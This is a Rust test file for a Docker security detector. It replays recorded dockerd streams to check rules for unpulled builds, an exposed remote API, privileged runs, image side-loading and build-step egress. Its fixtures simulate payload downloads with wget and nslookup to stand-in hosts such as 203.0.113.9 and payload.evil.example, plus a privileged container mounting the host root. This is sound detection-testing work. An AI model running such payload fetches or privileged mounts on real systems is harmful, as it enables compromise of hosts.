//! Correlation on byte streams recorded from a real dockerd (sensor/testdata, cut out of
//! integration runs with `cargo xtask fixture`), fed as the kernel delivered them and also one
//! byte per syscall.
use std::net::{IpAddr, Ipv4Addr};

use serde_json::Value;

use super::*;
use crate::{
    detect::{
        allow::{Allow, Allowlist},
        ledger::Ledger,
        transfers::SIDE_LOAD_WAIT_NS,
    },
    model::{image_ref::ImageRef, process::Ancestor},
    protocol::testdata::{fixture, Record},
};

const MS: u64 = 1_000_000;
const DOCKERD: u32 = 100;
const SOCKET: &str = "/run/docker.sock";

fn client_process(pid: u32, comm: &str) -> ProcessView {
    ProcessView {
        pid,
        tid: pid,
        ppid: Some(1),
        comm: comm.into(),
        uid: 1000,
        gid: 1000,
        exe: Some(format!("/usr/bin/{comm}")),
        argv: Some(vec![comm.into(), "build".into(), ".".into()]),
        argv_truncated: false,
        cwd: Some("/home/user".into()),
        container_id: None,
        ancestry: Some(vec![Ancestor {
            pid: 1,
            comm: "init".into(),
            exe: None,
        }]),
    }
}

/// Where a recorded stream is replayed: which side, over which endpoint.
#[derive(Clone)]
struct Side {
    conn_id: u64,
    role: Role,
    direction: Dir,
    tgid: u32,
    comm: &'static str,
    peer: Endpoint,
    local: Option<Endpoint>,
    process: ProcessView,
}

impl Side {
    fn daemon(conn_id: u64) -> Self {
        Self {
            conn_id,
            role: Role::DaemonAccepted,
            direction: Dir::Recv,
            tgid: DOCKERD,
            comm: "dockerd",
            peer: Endpoint::Unix(String::new()),
            local: Some(Endpoint::Unix(SOCKET.into())),
            process: client_process(DOCKERD, "dockerd"),
        }
    }

    fn remote(conn_id: u64, peer: [u8; 4]) -> Self {
        Self {
            peer: Endpoint::Tcp(IpAddr::V4(Ipv4Addr::from(peer)), 40000),
            local: Some(Endpoint::Tcp(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 2375)),
            ..Self::daemon(conn_id)
        }
    }

    fn client(conn_id: u64, pid: u32, comm: &'static str) -> Self {
        Self {
            conn_id,
            role: Role::Client,
            direction: Dir::Send,
            tgid: pid,
            comm,
            peer: Endpoint::Unix(SOCKET.into()),
            local: None,
            process: client_process(pid, comm),
        }
    }

    fn outbound(conn_id: u64) -> Self {
        Self {
            conn_id,
            role: Role::DaemonOutbound,
            direction: Dir::Send,
            peer: Endpoint::Tcp(IpAddr::V4(Ipv4Addr::LOCALHOST), 5000),
            local: None,
            ..Self::daemon(conn_id)
        }
    }
}

/// dockerd's image store as a test scripts it; everything else the host is asked is unknown.
type ScriptedStore = crate::host::scripted::ScriptedHost;

/// The store of the test's dockerd.
const STORE: &str = "docker:/var/lib/docker";

struct Harness {
    detector: Detector,
    now: u64,
    lines: u64,
    findings: Vec<Finding>,
}

impl Harness {
    fn new() -> Self {
        Self::with_allow(Allow::default())
    }

    fn with_allow(allow: Allow) -> Self {
        Self::with_host(allow, std::rc::Rc::new(ScriptedStore::default()))
    }

    fn with_host(allow: Allow, host: crate::host::SharedHost) -> Self {
        Self {
            detector: Detector::new(
                Settings {
                    allow: Allowlist::compile(&allow).unwrap(),
                    lookback_ns: 24 * 3600 * 1_000_000_000,
                    boot_to_wall_ns: 1_700_000_000_000_000_000,
                },
                Ledger::in_memory(1000),
                host,
            ),
            now: 1_000 * MS,
            lines: 0,
            findings: Vec::new(),
        }
    }

    fn line_id(&mut self) -> String {
        self.lines += 1;
        format!("line-{}", self.lines)
    }

    /// Feeds a recorded stream, one record per millisecond, or one byte per syscall.
    fn feed(&mut self, side: &Side, name: &str, bytewise: bool) {
        self.feed_records(side, fixture(name), bytewise);
    }

    fn feed_records(&mut self, side: &Side, records: Vec<Record>, bytewise: bool) {
        for record in records {
            let pieces: Vec<(Vec<u8>, u32)> = if bytewise && record.bytes.len() as u32 == record.length {
                record.bytes.iter().map(|b| (vec![*b], 1)).collect()
            } else {
                vec![(record.bytes.clone(), record.length)]
            };
            for (bytes, length) in pieces {
                self.now += MS / 10;
                let header = Header {
                    boot_ns: self.now,
                    pid: side.tgid,
                    tgid: side.tgid,
                    uid: 0,
                    gid: 0,
                    cgroup_id: 0,
                    comm: side.comm.into(),
                };
                let id = self.line_id();
                self.detector.on_data(DataInput {
                    header: &header,
                    line_id: &id,
                    conn_id: side.conn_id,
                    role: side.role,
                    direction: side.direction,
                    peer: &side.peer,
                    local: side.local.as_ref(),
                    bytes: &bytes,
                    total_len: length,
                    process: side.process.clone(),
                    daemon_store: matches!(side.role, Role::DaemonAccepted | Role::DaemonOutbound)
                        .then_some(STORE),
                    skipped_before: 0,
                    quiet_epoch: 0,
                    clean_end: false,
                });
                self.collect();
            }
        }
    }

    fn close(&mut self, conn_id: u64) {
        self.now += MS;
        self.detector.on_close(conn_id, self.now);
        self.collect();
    }

    /// Lets `ms` pass (pairing and body waits expire).
    fn wait(&mut self, ms: u64) {
        self.now += ms * MS;
        self.detector.tick(self.now);
        self.collect();
    }

    fn exec(&mut self, process: &ProcessView) -> String {
        self.now += MS;
        let header = Header {
            boot_ns: self.now,
            pid: process.pid,
            tgid: process.pid,
            uid: 0,
            gid: 0,
            cgroup_id: 0,
            comm: process.comm.clone(),
        };
        let id = self.line_id();
        self.detector.on_exec(&header, &id, process);
        self.collect();
        id
    }

    fn collect(&mut self) {
        self.findings
            .extend(self.detector.take_findings().into_iter().map(|(_, f)| f));
    }

    fn json(&self) -> Vec<Value> {
        self.findings
            .iter()
            .map(|f| {
                let mut value = serde_json::to_value(f).unwrap();
                value["kind"] = f.kind().as_str().into();
                value
            })
            .collect()
    }

    fn detections(&self, rule: &str) -> Vec<Value> {
        self.json()
            .into_iter()
            .filter(|v| v["kind"] == "detection" && v["detection"]["rule"] == rule)
            .collect()
    }

    fn of_kind(&self, kind: &str) -> Vec<Value> {
        self.json().into_iter().filter(|v| v["kind"] == kind).collect()
    }
}

fn strings(value: &Value) -> Vec<String> {
    value
        .as_array()
        .into_iter()
        .flatten()
        .map(|v| v.as_str().unwrap_or_default().to_string())
        .collect()
}

#[test]
fn classic_build_is_flagged_whole_or_byte_by_byte() {
    for bytewise in [false, true] {
        let mut h = Harness::new();
        h.feed(&Side::daemon(1), "classic_build.recv.jsonl", bytewise);
        h.wait(PAIR_WAIT_NS / MS);
        let found = h.detections("build_without_pull");
        assert_eq!(found.len(), 1, "bytewise {bytewise}: {:?}", h.json());
        let build = &found[0]["build"];
        assert_eq!(found[0]["detection"]["severity"], "medium");
        assert_eq!(build["builder"], "classic");
        assert_eq!(strings(&build["tags"]), ["docker.io/bwtest/classic:fe5b1a0f31a"]);
        assert_eq!(build["endpoint"], "unix:/run/docker.sock");
        assert_eq!(build["daemon"]["pid"], DOCKERD);
        // The chunked tar body gave the Dockerfile.
        assert_eq!(
            strings(&build["instructions"]["from"]),
            ["127.0.0.1:5000/bwbase:1"]
        );
        assert_eq!(
            strings(&build["instructions"]["run"]),
            ["echo classic-fe5b1a0f31a > /marker"]
        );
        assert!(!found[0]["detection"]["evidence"].as_array().unwrap().is_empty());
        h.close(1);
        let summary = h.of_kind("build");
        assert_eq!(summary.len(), 1);
        assert_eq!(summary[0]["build"]["state"], "finished");
        assert_eq!(summary[0]["build"]["detection_id"], found[0]["detection"]["id"]);
    }
}

#[test]
fn client_and_daemon_halves_make_one_operation() {
    let mut h = Harness::new();
    h.feed(
        &Side::client(7, 4242, "docker"),
        "classic_build.send.jsonl",
        false,
    );
    h.feed(&Side::daemon(8), "classic_build.recv.jsonl", false);
    h.wait(1);
    let operations = h.of_kind("docker.operation");
    assert_eq!(operations.len(), 1, "{operations:?}");
    let operation = &operations[0]["operation"];
    assert_eq!(operation["client"]["pid"], 4242);
    assert_eq!(operation["client"]["exe"], "/usr/bin/docker");
    assert_eq!(operation["daemon"]["pid"], DOCKERD);
    assert_eq!(operation["path"], "/build");
    assert_eq!(operation["api_version"], "v1.41");
    assert!(
        operation["evidence"].as_array().unwrap().len() >= 2,
        "{operation}"
    );
    let found = h.detections("build_without_pull");
    assert_eq!(found.len(), 1);
    assert!(found[0]["detection"]["summary"]
        .as_str()
        .unwrap()
        .starts_with("/usr/bin/docker (pid 4242, uid 1000)"));
}

#[test]
fn a_late_half_joins_the_operation_reported_without_it() {
    let mut h = Harness::new();
    // dockerd's read of a TCP request from another host is reported at once ...
    h.feed(
        &Side::remote(1, [10, 9, 8, 7]),
        "remote_tcp_build.recv.jsonl",
        false,
    );
    assert_eq!(h.detections("build_without_pull").len(), 1);
    // ... and the client's write, processed later (the client ran in a namespace on this host),
    // is not a second build.
    let mut client = Side::client(2, 4242, "docker");
    client.peer = Endpoint::Tcp(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 2375);
    h.feed(&client, "remote_tcp_build.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    assert_eq!(h.of_kind("docker.operation").len(), 1, "{:?}", h.json());
    assert_eq!(h.detections("build_without_pull").len(), 1);
    h.close(2);
    assert_eq!(h.of_kind("build").len(), 1, "the client's close ends the build");
}

#[test]
fn remote_tcp_build_is_critical_and_the_api_exposed_once() {
    let mut h = Harness::new();
    h.feed(
        &Side::remote(1, [10, 9, 8, 7]),
        "remote_tcp_build.recv.jsonl",
        false,
    );
    h.feed(&Side::remote(2, [10, 9, 8, 7]), "pull.recv.jsonl", false);
    h.wait(1);
    let found = h.detections("build_without_pull");
    assert_eq!(found.len(), 1, "{:?}", h.json());
    assert_eq!(found[0]["detection"]["severity"], "critical");
    assert_eq!(found[0]["build"]["peer"], "10.9.8.7:40000");
    assert_eq!(found[0]["build"]["endpoint"], "10.0.0.1:2375");
    let exposed = h.detections("api_exposed");
    assert_eq!(exposed.len(), 1, "once per peer");
    assert_eq!(exposed[0]["detection"]["attack"]["technique"], "T1133");
}

#[test]
fn allowlisted_peer_is_counted_not_reported() {
    let mut h = Harness::with_allow(Allow {
        peer_cidrs: vec!["10.0.0.0/8".into()],
        ..Allow::default()
    });
    h.feed(
        &Side::remote(1, [10, 9, 8, 7]),
        "remote_tcp_build.recv.jsonl",
        false,
    );
    h.wait(1);
    assert!(h.of_kind("detection").is_empty(), "{:?}", h.json());
    let stats = h.detector.stats();
    assert_eq!(stats.suppressed.get("build_without_pull"), Some(&1));
    assert_eq!(stats.suppressed.get("api_exposed"), Some(&1));
}

#[test]
fn pull_then_build_of_the_same_repository_is_not_flagged() {
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "pull.recv.jsonl", false);
    // The daemon's own manifest fetch confirms the pull.
    h.feed(&Side::outbound(3), "registry_manifest.send.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    h.feed(&Side::daemon(2), "ci_build.recv.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    assert!(h.detections("build_without_pull").is_empty(), "{:?}", h.json());
    assert_eq!(h.of_kind("docker.operation").len(), 2);
}

/// A pull request is provenance only when the daemon that read it went to the registry, and
/// only a trusted daemon's side counts: a client's write alone (a forged request to a listener
/// of the user's own) never changes the ledger.
#[test]
fn unconfirmed_and_forged_pulls_excuse_nothing() {
    for forged in [Side::daemon(1), Side::client(1, 4242, "evil")] {
        let mut h = Harness::new();
        h.feed(&forged, "pull.recv.jsonl", false);
        h.wait(PAIR_WAIT_NS / MS);
        h.wait(61_000);
        h.feed(&Side::daemon(2), "ci_build.recv.jsonl", false);
        h.wait(PAIR_WAIT_NS / MS);
        assert_eq!(h.detections("build_without_pull").len(), 1, "{:?}", h.json());
        assert_eq!(h.detector.stats().ledger_records, 1, "only the build's tag");
        let pull = &h.of_kind("docker.operation")[0]["operation"];
        assert_eq!(pull["confirmed"], forged.role == Role::DaemonAccepted, "{pull}");
    }
}

#[test]
fn buildkit_session_and_build() {
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "buildkit_build.recv.jsonl", false);
    h.feed(&Side::daemon(2), "buildkit_session.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    let found = h.detections("build_without_pull");
    assert_eq!(found.len(), 1, "{:?}", h.json());
    assert_eq!(found[0]["build"]["builder"], "buildkit");
    assert!(found[0]["build"]["session"].is_string());
    let types: Vec<String> = h
        .of_kind("docker.operation")
        .iter()
        .map(|o| o["operation"]["type"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(types, ["build", "buildkit_session"]);
}

/// A real buildx build on Docker 26.1 as the daemon read it, with the control connection's
/// HTTP/1.1 upgrade cut off: HTTP/2 with prior knowledge, as Docker 29 serves BuildKit natively
/// on the API socket. The Solve request (read in a 6.7 KiB read of which 4 KiB were captured)
/// and the Dockerfile from the session's file sync are decoded.
#[test]
fn buildx_with_prior_knowledge_and_its_dockerfile_from_the_file_sync() {
    let mut h = Harness::new();
    let grpc = fixture("buildx_grpc.recv.jsonl");
    assert!(grpc[0].bytes.starts_with(b"POST /grpc HTTP/1.1"));
    assert!(grpc[1].bytes.starts_with(b"PRI * HTTP/2.0"));
    assert!(
        grpc.iter().any(|r| (r.bytes.len() as u32) < r.length),
        "a read the capture cut"
    );
    h.feed_records(&Side::daemon(1), grpc.into_iter().skip(1).collect(), false);
    h.wait(1);
    h.feed(&Side::daemon(2), "buildx_session.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    let found = h.detections("build_without_pull");
    assert_eq!(found.len(), 1, "{:?}", h.json());
    let build = &found[0]["build"];
    assert_eq!(build["builder"], "buildx");
    let tags = strings(&build["tags"]);
    assert!(
        tags.len() == 1 && tags[0].starts_with("docker.io/bwdet/remote-docker26-classic:"),
        "{tags:?}"
    );
    h.close(Side::daemon(1).conn_id);
    let summary = h.of_kind("build");
    let instructions = &summary[0]["build"]["instructions"];
    assert_eq!(
        strings(&instructions["from"]),
        ["127.0.0.1:5000/bwbase:1"],
        "{summary:?}"
    );
    let run = strings(&instructions["run"]);
    assert!(run.len() == 1 && run[0].starts_with("echo remote-"), "{run:?}");
}

#[test]
fn curl_build_with_continue_unversioned_and_repeated_tags() {
    for bytewise in [false, true] {
        let mut h = Harness::new();
        h.feed(&Side::client(5, 777, "curl"), "curl_build.send.jsonl", bytewise);
        h.feed(&Side::daemon(6), "curl_build.recv.jsonl", bytewise);
        h.wait(1);
        let found = h.detections("build_without_pull");
        assert_eq!(found.len(), 1, "{:?}", h.json());
        let build = &found[0]["build"];
        assert_eq!(
            strings(&build["tags"]),
            ["docker.io/bwdet/curl:d0cb8e63909", "docker.io/bwdet/curl:latest"]
        );
        assert_eq!(build["client"]["comm"], "curl");
        assert_eq!(
            strings(&build["instructions"]["from"]),
            ["127.0.0.1:5000/bwbase:1"]
        );
    }
}

#[test]
fn privileged_run_of_a_built_image_is_critical() {
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "create_privileged.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    assert!(
        h.detections("run_of_unpulled_image").is_empty(),
        "an image of unknown origin is not flagged"
    );
    h.feed(&Side::daemon(2), "run_build.recv.jsonl", false);
    h.feed(&Side::daemon(3), "create_privileged.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    let found = h.detections("run_of_unpulled_image");
    assert_eq!(found.len(), 1, "{:?}", h.json());
    assert_eq!(found[0]["detection"]["severity"], "critical");
    assert_eq!(found[0]["detection"]["attack"]["technique"], "T1610");
    assert_eq!(found[0]["operation"]["privileged"], true);
    assert_eq!(found[0]["operation"]["sensitive_mounts"][0]["source"], "/");
}

#[test]
fn load_is_side_loading() {
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "load.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    assert!(
        h.detections("image_side_loaded").is_empty(),
        "waits for the load to end and name its images"
    );
    // The load is still running when the detection is due: it goes out without names.
    h.wait(SIDE_LOAD_WAIT_NS / MS);
    let found = h.detections("image_side_loaded");
    assert_eq!(found.len(), 1, "{:?}", h.json());
    assert_eq!(found[0]["detection"]["severity"], "medium");
    assert_eq!(found[0]["operation"]["type"], "load");
    h.close(1);
    assert_eq!(h.detections("image_side_loaded").len(), 1, "reported once");
}

fn written(hex: char, names: &[&str], created_boot_ns: i128) -> crate::host::WrittenImage {
    crate::host::WrittenImage {
        id: format!("sha256:{}", hex.to_string().repeat(64)),
        created_boot_ns: Some(created_boot_ns),
        names: names.iter().map(|n| n.to_string()).collect(),
        registry_digest: false,
    }
}

/// The one side-load detection, which must name `image` (from the store, when the load ended).
fn assert_side_load_names(h: &Harness, image: &str) -> Vec<serde_json::Value> {
    let found = h.detections("image_side_loaded");
    assert_eq!(found.len(), 1, "{:?}", h.json());
    let summary = found[0]["detection"]["summary"].as_str().unwrap_or_default();
    assert!(summary.contains(image), "not named {image}: {}", found[0]);
    found
}

#[test]
fn a_load_over_before_its_operation_is_reported_is_named() {
    let store = std::rc::Rc::new(ScriptedStore::default());
    let mut h = Harness::with_host(Allow::default(), store.clone());
    h.feed(&Side::daemon(1), "load.recv.jsonl", false);
    *store.images.borrow_mut() = vec![written('a', &["evil:1"], -1)];
    // A small `docker load` ends in milliseconds: the daemon's side closes before the client's
    // half is read (another ring), and the client's own close is never seen.
    h.close(1);
    h.feed(&Side::client(2, 4242, "docker"), "load.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    let found = assert_side_load_names(&h, "docker.io/library/evil:1");
    assert_eq!(
        found[0]["operation"]["client"]["pid"], 4242,
        "both halves: {}",
        found[0]
    );
    assert!(
        h.detector.transfers.is_empty(),
        "the transfer ended with the daemon's side"
    );
}

#[test]
fn what_a_load_put_in_the_store_is_recorded_by_name_and_id_unless_pulled() {
    let store = std::rc::Rc::new(ScriptedStore::default());
    let mut h = Harness::with_host(Allow::default(), store.clone());
    h.feed(&Side::daemon(1), "load.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    // Meanwhile a pull of 127.0.0.1:5000/bwbase:1 lands in the store too.
    h.feed(&Side::daemon(2), "pull.recv.jsonl", false);
    h.feed(&Side::outbound(3), "registry_manifest.send.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    // And an image pulled long ago, whose config the load rewrote (the archive held it too).
    let mut pulled_before = written('c', &["alpine:3"], -1);
    pulled_before.registry_digest = true;
    *store.images.borrow_mut() = vec![
        written('a', &["evil:1"], -1),
        written('b', &["127.0.0.1:5000/bwbase:1"], -1),
        pulled_before,
    ];
    h.close(1);
    assert_side_load_names(&h, "docker.io/library/evil:1");
    let trusted = |_: &str| true;
    let ledger = &h.detector.ledger;
    let evil = ImageRef::parse("evil:1").unwrap();
    assert_eq!(ledger.provenance(STORE, &evil, &trusted).origins, [Source::Load]);
    let (_, by_id) = ledger
        .provenance_of_id(STORE, "sha256:aaaaaaaaaaaa", &trusted)
        .unwrap();
    assert_eq!(by_id.origins, [Source::Load]);
    assert!(
        ledger
            .provenance_of_id(STORE, "sha256:bbbbbbbbbbbb", &trusted)
            .is_none(),
        "pulled during the load: not the load's"
    );
    assert!(
        ledger
            .provenance_of_id(STORE, "sha256:cccccccccccc", &trusted)
            .is_none(),
        "tied to a registry manifest: not the load's"
    );
    assert!(h.detector.transfers.is_empty());
}

#[test]
fn a_build_keeps_the_images_created_while_it_ran() {
    let store = std::rc::Rc::new(ScriptedStore::default());
    let mut h = Harness::with_host(Allow::default(), store.clone());
    let start = h.now as i128;
    h.feed(&Side::daemon(1), "run_build.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    *store.images.borrow_mut() = vec![
        written('1', &[], start - 5_000_000_000),
        written('2', &[], h.now as i128 - 1),
    ];
    h.close(1);
    let builds = h.of_kind("build");
    assert_eq!(
        strings(&builds[0]["build"]["images"]),
        [format!("sha256:{}", "2".repeat(64))],
        "an image created before the build (its base) is not its product"
    );
}

#[test]
fn registry_fetches_become_base_images_and_provenance() {
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "remote_tcp_build.recv.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    h.feed(&Side::outbound(2), "registry_tls.send.jsonl", false);
    h.feed(&Side::outbound(3), "registry_manifest.send.jsonl", false);
    h.feed(&Side::outbound(4), "registry_digest.send.jsonl", false);
    h.close(1);
    let summary = &h.of_kind("build")[0]["build"];
    let bases = summary["base_images"].as_array().unwrap();
    assert_eq!(bases.len(), 1, "{bases:?}");
    assert_eq!(bases[0]["reference"], "127.0.0.1:5000/bwbase:1");
    assert_eq!(bases[0]["fetched"], true);
    assert_eq!(bases[0]["in_dockerfile"], true);
    assert!(bases[0]["digest"].as_str().unwrap().starts_with("sha256:"));
    let egress = summary["egress"].as_array().unwrap();
    assert!(
        egress.iter().all(|e| e["kind"] == "dockerfile"),
        "a registry is not egress: {egress:?}"
    );
    assert_eq!(egress.len(), 1, "the Dockerfile's `(wget ...)` is");
    let image = ImageRef::parse("127.0.0.1:5000/bwbase:1").unwrap();
    assert!(h.detector.ledger().provenance(STORE, &image, &|_| true).pulled);
}

#[test]
fn steps_and_egress_of_a_flagged_build() {
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "classic_build.recv.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    let mut step = client_process(500, "wget");
    step.exe = Some("/bin/busybox".into());
    step.argv = Some(vec!["wget".into(), "http://203.0.113.9/payload".into()]);
    step.ancestry = Some(vec![
        Ancestor {
            pid: 499,
            comm: "sh".into(),
            exe: None,
        },
        Ancestor {
            pid: 498,
            comm: "containerd-shim".into(),
            exe: None,
        },
    ]);
    let exec_line = h.exec(&step);
    let mut unrelated = client_process(600, "ls");
    unrelated.argv = Some(vec!["ls".into()]);
    h.exec(&unrelated);
    let egress = h.detections("build_egress");
    assert_eq!(egress.len(), 1, "{:?}", h.json());
    assert_eq!(
        egress[0]["detection"]["severity"], "high",
        "medium build raised one level"
    );
    assert!(strings(&egress[0]["detection"]["evidence"]).contains(&exec_line));
    h.close(1);
    let summary = &h.of_kind("build")[0]["build"];
    assert_eq!(summary["steps"].as_array().unwrap().len(), 1, "{summary}");
    assert_eq!(summary["steps"][0]["argv"][0], "wget");
    assert_eq!(summary["severity"], "high");
}

fn step_in(pid: u32, container: &str, argv: &[&str], parents: &[(u32, &str)]) -> ProcessView {
    let mut step = client_process(pid, argv[0].rsplit('/').next().unwrap());
    step.argv = Some(argv.iter().map(|a| a.to_string()).collect());
    step.container_id = Some(container.repeat(32));
    step.ancestry = Some(
        parents
            .iter()
            .chain(&[(498, "containerd-shim"), (DOCKERD, "dockerd")])
            .map(|(pid, comm)| Ancestor {
                pid: *pid,
                comm: comm.to_string(),
                exe: None,
            })
            .collect(),
    );
    step
}

#[test]
fn concurrent_builds_on_one_daemon_keep_their_own_steps() {
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "classic_build.recv.jsonl", false);
    h.feed(&Side::daemon(2), "curl_build.recv.jsonl", false);
    h.wait(BODY_WAIT_NS / MS);
    // The older build's RUN starts while the newer one is open, and its shell runs wget.
    let older = ["/bin/sh", "-c", "echo classic-fe5b1a0f31a > /marker"];
    h.exec(&step_in(500, "a1", &older, &[]));
    h.exec(&step_in(
        501,
        "a1",
        &["wget", "http://203.0.113.9/x"],
        &[(500, "sh")],
    ));
    h.exec(&step_in(
        600,
        "b2",
        &["/bin/sh", "-c", "echo curl-d0cb8e63909"],
        &[],
    ));
    // A step the Dockerfiles do not name goes to the latest build.
    h.exec(&step_in(700, "c3", &["/bin/true"], &[]));
    h.close(1);
    h.close(2);
    let builds = h.of_kind("build");
    let steps_of = |tag: &str| -> Vec<String> {
        let build = builds
            .iter()
            .find(|b| strings(&b["build"]["tags"]).iter().any(|t| t.contains(tag)))
            .unwrap_or_else(|| panic!("no build tagged {tag}: {builds:?}"));
        build["build"]["steps"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| {
                s["argv"][0].as_str().unwrap().to_string()
                    + " "
                    + s["argv"].as_array().unwrap().last().unwrap().as_str().unwrap()
            })
            .collect()
    };
    assert_eq!(
        steps_of("classic"),
        [
            "/bin/sh echo classic-fe5b1a0f31a > /marker",
            "wget http://203.0.113.9/x"
        ]
    );
    assert_eq!(
        steps_of("curl"),
        ["/bin/sh echo curl-d0cb8e63909", "/bin/true /bin/true"]
    );
}

#[test]
fn dockerfile_egress_raises_the_detection_and_the_step_confirms_it() {
    let mut h = Harness::new();
    // Its Dockerfile runs `(wget ... || true)`; over the unix socket the base severity is medium.
    h.feed(&Side::daemon(1), "remote_tcp_build.recv.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    let flagged = h.detections("build_without_pull");
    assert_eq!(flagged[0]["detection"]["severity"], "high", "{flagged:?}");
    assert_eq!(flagged[0]["build"]["egress"][0]["kind"], "dockerfile");
    let mut step = client_process(500, "wget");
    step.argv = Some(
        ["wget", "-q", "http://127.0.0.1:9/payload"]
            .map(String::from)
            .to_vec(),
    );
    step.ancestry = Some(vec![Ancestor {
        pid: 498,
        comm: "runc".into(),
        exe: None,
    }]);
    h.exec(&step);
    h.exec(&step);
    let egress = h.detections("build_egress");
    assert_eq!(egress.len(), 1, "once per build");
    assert_eq!(
        egress[0]["detection"]["severity"], "high",
        "raised once, not twice"
    );
}

#[test]
fn a_step_resolving_a_host_is_egress_named_by_its_question() {
    use simple_dns::{Name, Packet, Question, CLASS, QTYPE, TYPE};
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "classic_build.recv.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    let step = step_in(700, "d4", &["nslookup", "payload.evil.example"], &[]);
    let header = Header::for_test(700, "nslookup", h.now + MS);
    let resolver = Endpoint::Tcp(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 2)), 53);
    h.detector
        .on_step_connect(&header, "connect-1", &step, 42, &resolver, 0);
    h.collect();
    assert!(
        h.detections("build_egress").is_empty(),
        "the resolver connect waits for its question"
    );
    let mut query = Packet::new_query(1);
    query.questions.push(Question::new(
        Name::new_unchecked("payload.evil.example"),
        QTYPE::TYPE(TYPE::A),
        CLASS::IN.into(),
        false,
    ));
    let bytes = query.build_bytes_vec().unwrap();
    for line in ["dns-1", "dns-2"] {
        h.detector.on_data(DataInput {
            header: &header,
            line_id: line,
            conn_id: 42,
            role: Role::BuildStep,
            direction: Dir::Send,
            peer: &resolver,
            local: None,
            bytes: &bytes,
            total_len: bytes.len() as u32,
            process: step.clone(),
            daemon_store: None,
            skipped_before: 0,
            quiet_epoch: 0,
            clean_end: false,
        });
    }
    h.collect();
    let egress = h.detections("build_egress");
    assert_eq!(egress.len(), 1, "{:?}", h.json());
    let reasons = strings(&egress[0]["detection"]["reasons"]);
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("nslookup asked 10.0.0.2:53 for payload.evil.example (A)")),
        "{reasons:?}"
    );
    let evidence = strings(&egress[0]["detection"]["evidence"]);
    assert!(evidence.contains(&"dns-1".to_string()) && !evidence.contains(&"dns-2".to_string()));
}

#[test]
fn build_step_connections_are_egress() {
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "classic_build.recv.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    let mut step = client_process(700, "wget");
    step.ancestry = Some(vec![
        Ancestor {
            pid: 699,
            comm: "sh".into(),
            exe: None,
        },
        Ancestor {
            pid: 698,
            comm: "runc".into(),
            exe: None,
        },
    ]);
    let header = Header::for_test(700, "wget", h.now + MS);
    let payload = Endpoint::Tcp(IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9)), 80);
    h.detector
        .on_step_connect(&header, "connect-1", &step, 42, &payload, 0);
    h.collect();
    let egress = h.detections("build_egress");
    assert_eq!(egress.len(), 1, "{:?}", h.json());
    assert!(strings(&egress[0]["detection"]["evidence"]).contains(&"connect-1".to_string()));
    // Its request names the URL.
    let side = Side {
        conn_id: 42,
        role: Role::BuildStep,
        direction: Dir::Send,
        tgid: 700,
        comm: "wget",
        peer: payload.clone(),
        local: None,
        process: step.clone(),
    };
    h.feed(&side, "registry_manifest.send.jsonl", false);
    // A refused attempt is egress too, and the connection is not followed.
    h.detector
        .on_step_connect(&header, "connect-2", &step, 43, &payload, -111);
    h.close(42);
    h.close(1);
    let summary = &h.of_kind("build")[0]["build"];
    let details: Vec<String> = summary["egress"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["detail"].as_str().unwrap().to_string())
        .collect();
    assert!(
        details.contains(&"wget connected to 203.0.113.9:80".to_string()),
        "{details:?}"
    );
    assert!(
        details.contains(&"HEAD http://127.0.0.1:5000/v2/bwbase/manifests/1".to_string()),
        "{details:?}"
    );
    assert!(
        details.contains(&"wget connected to 203.0.113.9:80 (refused)".to_string()),
        "{details:?}"
    );
    // A process that is not a step is ignored.
    let mut h = Harness::new();
    h.feed(&Side::daemon(1), "classic_build.recv.jsonl", false);
    h.wait(PAIR_WAIT_NS / MS);
    let outsider = client_process(800, "curl");
    h.detector
        .on_step_connect(&header, "connect-3", &outsider, 44, &payload, 0);
    h.collect();
    assert!(h.detections("build_egress").is_empty());
}

#[test]
fn podman_build_from_its_command_line() {
    let mut h = Harness::new();
    let mut podman = client_process(900, "podman");
    // As the process table hands it over: build-arg values already blanked.
    let mut argv: Vec<String> = [
        "podman",
        "build",
        "-t",
        "evil:1",
        "--build-arg",
        "TOKEN=s3cret",
        ".",
    ]
    .map(String::from)
    .to_vec();
    crate::redact::argv(&mut argv);
    podman.argv = Some(argv);
    h.exec(&podman);
    let found = h.detections("build_without_pull");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0]["build"]["builder"], "podman");
    assert_eq!(found[0]["build"]["transport"], "exec");
    assert_eq!(strings(&found[0]["build"]["build_arg_keys"]), ["TOKEN"]);
    assert!(!serde_json::to_string(&h.json()).unwrap().contains("s3cret"));
    h.now += MS;
    h.detector.on_exit(900, h.now);
    h.collect();
    assert_eq!(h.of_kind("build")[0]["build"]["state"], "finished");
}

/// HTTP-ish garbage on a daemon's connection: no panic, the parser gives up and resyncs (counted
